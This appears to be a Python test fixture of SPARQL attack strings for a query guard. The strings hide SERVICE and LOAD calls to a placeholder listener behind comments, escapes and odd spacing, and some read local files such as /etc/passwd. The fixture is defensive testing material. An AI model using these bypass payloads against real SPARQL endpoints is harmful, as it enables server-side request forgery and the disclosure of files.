"""Attacks on the guard: texts that would make the engine, or one more lenient, fetch or read something.

``<u:x>`` and the prefix ``e:`` stand for the address of whoever listens.
"""

from __future__ import annotations

FETCHING = [
    "ASK { SERVICE <u:x> { ?s ?p ?o } }",
    "ASK { service <u:x> {} }",
    "ASK { SeRvIcE SILENT <u:x> {} }",
    "ASK {SERVICE<u:x>{}}",
    "ASK {SERVICE?u{}}",
    "ASK { VALUES ?u { <u:x> } SERVICE ?u {} }",
    "ASK {SERVICESILENT<u:x>{}}",
    "ASK {SERVICEe:s{}}",
    "ASK {SERVICE:s{}}",
    "ASK {SERVICESILENTe:s{}}",
    "ASK {SERVICEe:s#\n#\r{}}",
    "PREFIX SERVICEe: <http://example.org/> ASK {SERVICEe:s{}}",
    "ASK {?s ?p 1SERVICE<u:x>{}}",
    "ASK {?s ?p 1SERVICEe:s{}}",
    "ASK {?s ?p 1.SERVICE<u:x>{}}",
    "ASK {?s ?p 1e5SERVICE e:s{}}",
    "ASK {?s ?p trueSERVICE<u:x>{}}",
    "ASK {?s ?p true.SERVICEe:s{}}",
    "ASK {?s ?p e:.SERVICE<u:x>{}}",
    "ASK {?s ?p e:-SERVICE<u:x>{}}",
    "ASK {?s ?p ?o.SERVICE<u:x>{}}",
    "ASK {?s ?p e:a.b.SERVICE<u:x>{}}",
    "ASK {?s ?p e:a.b.SERVICE e:s{}}",
    "ASK {?s ?p e:a.b.SERVICEe:s{}}",
    "ASK {?s e:a.b.9SERVICE<u:x>{}}",
    "ASK {?s ?p e:a.b.service#\n silent#\n?u#\n{}}",
    "ASK {?s ?p <u:x>SERVICE<u:x>{}}",
    "ASK {?s ?p 'x'SERVICE<u:x>{}}",
    "ASK {?s ?p ''SERVICE<u:x>{}#'\n}",
    "ASK {?s ?p 'x\\\\'SERVICE<u:x>{}#'\n}",
    'ASK {?s ?p "x"@en.SERVICE<u:x>{}}',
    "ASK {#\nSERVICE#\n<u:x>#\n{}}",
    "ASK {#'''\nSERVICE<u:x>{}#'''\n}",
    "ASK {#'''\rSERVICE<u:x>{}#'''\n}",
    "ASK {#\"\nSERVICE<u:x>{}#\"\n}",
    "ASK {#<\nSERVICE<u:x>{}#>\n}",
    "ASK { ?s ?p '''x''' . SERVICE <u:x> {} }",
    "ASK { ?s ?p '''x\\'''' . SERVICE <u:x> {} }",
    "ASK { ?s ?p '''x'' ' \\\\''' . SERVICE <u:x> {} }",
    "ASK { FILTER(1<2#>'''\n)SERVICE<u:x>{}#'''\n}",
    "ASK { BIND(1 AS ?b)FILTER(?b<?b#>'''\n||true)SERVICE<u:x>{}#'''\n}",
    "ASK { BIND(1 AS ?b)FILTER(?b<'>'||true)SERVICE<u:x>{}#'\n}",
    "ASK { BIND(1 AS ?b)FILTER(?b<'x>'''||true)SERVICE<u:x>{}#'''\n}",
    "ASK { BIND(1 AS ?b)FILTER(?b<?b)SERVICE?x#>\n{}}",
    "ASK { ?s ?p e:a\\' . SERVICE <u:x> {} #'\n}",
    "ASK { ?s ?p e:a\\#. SERVICE <u:x> {} }",
    "ASK { OPTIONAL { { SERVICE <u:x> {} } UNION {} } }",
    "ASK { FILTER EXISTS { SERVICE <u:x> {} } }",
    "ASK { FILTER NOT EXISTS {SERVICEe:s{}} }",
    "ASK { GRAPH ?g {SERVICEe:s{}} }",
    "ASK { GRAPH ?g { } SERVICEe:s{} }",
    "ASK { LATERAL { SERVICE <u:x> {} } }",
    "ASK { { SELECT * { SERVICE <u:x> {} } } }",
    "ASK { ?GRAPH e:p SERVICEe:s{} }",
    "CONSTRUCT { ?a ?b ?c } WHERE { SERVICE <u:x> { ?a ?b ?c } }",
    "DESCRIBE ?a { SERVICE <u:x> { ?a ?b ?c } }",
    "PREFIX h: <http://a:> ASK { ?s ?p h:SERVICE <u:x> {} }",
    "PREFIX h: <http://[::1]> ASK { ?s ?p h:SERVICE <u:x> {} }",
    "PREFIX#'\nh:#'\n<http://a\\u003A> ASK { ?s ?p h:SERVICE <u:x> {} }",
    "BASE <http://a:> PREFIX h: <> ASK { ?s ?p h:SERVICE <u:x> {} }",
    "ASK { ?s ?p ?o } LOAD <u:x>",
    "INSERT DATA {} ; LOAD <u:x>",
]
"""Queries that ask another server: comments, escapes, odd white space, no white space, strings, nesting, variables."""

LOADING = [
    "LOAD <u:x>", "LOADSILENT<u:x>", "LOADe:s", "PREFIX e: <u:> LOADe:s", "INSERT DATA {};LOADe:s INTO GRAPH <u:x>",
    "CLEAR ALL;#\nload <u:x>", "INSERT {} WHERE { SERVICE <u:x> {} }", "PREFIX LOADe: <u:> PREFIX e: <u:> LOADe:s",
    "INSERT{}WHERE{FILTER(1<2#>'''\n)};LOAD<u:x>#'''",
]
"""Updates that fetch, and sequences of them."""

ESCAPED = [
    "ASK { \\u0053ERVICE <u:x> {} }", "ASK { S\\u0045RVICE <u:x> {} }", "ASK { SERVIC\\U00000045 <u:x> {} }",
    "\\u004cOAD <u:x>", "ASK { SERVICE\\u0020<u:x> {} }", "ASK { \\u007B SERVICE <u:x> {} } }",
    "ASK { ?s ?p '\\u0027 . SERVICE <u:x> {} #' . SERVICE <u:x> {} }",
]
"""Keywords and brackets spelled with escapes."""

NAMING = [
    "ASK FROM <u:x> { ?s ?p ?o }", "ASK FROM NAMED <u:x> { GRAPH ?g { ?s ?p ?o } }", "ASK{GRAPH<u:x>{?s ?p ?o}}",
    "ASK FROM<u:x>FROM NAMED<u:x>{?s ?p ?o}", "ASK FROM <u:x> FROM <FILE> { ?s ?p ?o }",
    "ASK FROM <FILE> { ?s ?p ?o }", "ASK FROM NAMED <FILE> { GRAPH <FILE> { ?s ?p ?o } }",
    "ASK FROM <file:///etc/passwd> { ?s ?p ?o }", "ASK FROM <file:/etc/passwd> { ?s ?p ?o }",
    "ASK FROM <file://localhost/etc/passwd> { ?s ?p ?o }", "BASE <file:///etc/> ASK FROM <passwd> { ?s ?p ?o }",
    "BASE <u:x> ASK FROM <> { ?s ?p ?o }", "PREFIX f: <file:///etc/> ASK FROM f:passwd { ?s ?p ?o }",
    "ASK FROM <ftp://127.0.0.1/x> { ?s ?p ?o }", "ASK FROM <data:text/turtle,%3Ca:%3E%20%3Ca:%3E%201> { ?s ?p ?o }",
    "DESCRIBE <u:x>", "CONSTRUCT { ?s ?p ?o } FROM <u:x> { ?s ?p ?o }", "SELECT (IRI('u:x') AS ?x) FROM <u:x> {}",
    "ASK { GRAPH <u:x> { ?s <u:x> ?o } ?s owl:imports <u:x> }",
]
"""Queries that name what is elsewhere: to the endpoint, the name of a graph that is empty. ``FILE`` holds RDF."""
